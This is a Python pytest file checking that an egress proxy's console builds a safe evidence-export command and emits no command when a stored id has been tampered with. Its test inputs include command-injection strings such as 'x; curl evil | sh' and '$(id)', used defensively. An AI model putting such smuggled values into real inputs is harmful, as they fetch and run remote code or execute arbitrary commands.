"""What a page says of evidence."""

from __future__ import annotations

import pytest

from egress_proxy.console.telling import sealed

DIGEST = "ab" * 32


def test_evidence_is_told_with_what_opens_it() -> None:
    told = sealed({"evidence": DIGEST, "id": "egr_0a1b"})
    assert told is not None
    assert told.commands[0] == "egress-proxy evidence export egr_0a1b carried.jsonl"


@pytest.mark.parametrize("planted", ["x; curl evil | sh", "$(id)", "-h", "a b", "a\nb", "", "é", "x" * 65])
def test_what_somebody_planted_in_the_database_is_no_command_to_copy(planted: str) -> None:
    told = sealed({"evidence": DIGEST, "id": planted})
    assert told is not None
    assert (told.digest, told.commands) == (DIGEST, ())
